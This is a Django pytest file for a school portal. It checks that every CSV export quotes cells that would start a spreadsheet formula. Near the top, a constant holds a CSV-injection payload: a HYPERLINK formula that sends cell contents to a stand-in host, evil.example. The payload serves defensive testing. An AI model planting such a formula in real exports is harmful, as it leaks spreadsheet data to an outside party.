"""Every CSV export is safe to open in a spreadsheet: a cell that would start a formula is quoted,
wherever the text came from (a pupil's name typed or imported as `=HYPERLINK(...)`)."""

import csv
import io

import pytest
from django.urls import get_resolver, reverse

from cases.models import Case, Pupil
from ot_portal.core.spreadsheet import SafeCsvWriter, safe_cell
from tests.factories.cases import ActionFactory

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"klik")'

#: Every CSV export of the product and the persona who may download it.
EXPORTS = {
    "dashboards:director_csv": "director_a",
    "dashboards:worklist_csv": "ib_a",
    "dashboards:clo_csv": "clo_secretary",
    "dashboards:partnership_csv": "swv_staff",
}


def _csv_route_names(patterns, namespace=""):
    for p in patterns:
        if hasattr(p, "url_patterns"):
            yield from _csv_route_names(p.url_patterns, p.namespace or namespace)
        elif p.name and (p.name.endswith("_csv") or str(p.pattern).rstrip("/").endswith("csv")):
            yield f"{namespace}:{p.name}"


def test_every_csv_route_is_covered_here():
    names = set(_csv_route_names(get_resolver().url_patterns))
    assert names and names <= set(EXPORTS), f"CSV exports without a test here: {names - set(EXPORTS)}"


def test_safe_cell_quotes_formula_starts_only():
    for bad in ("=1+1", "+31 6", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(bad) == "'" + bad
    assert safe_cell("Zoë") == "Zoë" and safe_cell(-3) == -3 and safe_cell(None) is None


@pytest.mark.django_db
@pytest.mark.parametrize("url_name", sorted(EXPORTS))
def test_no_export_cell_starts_a_formula(world, client_for, url_name):
    case = Case.objects.filter(school=world.school_a).select_related("pupil").first()
    Pupil.objects.filter(pk=case.pupil_id).update(first_name=HOSTILE, last_name="@cmd")
    ActionFactory(case=case, description="-2+3 bellen", owner=world.users["ib_a"], overdue=True)
    response = client_for(world.users[EXPORTS[url_name]]).get(reverse(url_name))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert cells, "the export is empty"
    dangerous = [
        c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c.startswith("-") and not c[1:].isdigit())
    ]
    assert not dangerous, dangerous


def test_writer_quotes_every_cell():
    writer = SafeCsvWriter()
    writer.writerow([HOSTILE, 3, "-x"])
    text = writer.buffer.getvalue()
    assert "'=HYPERLINK" in text and ";3;'-x" in text
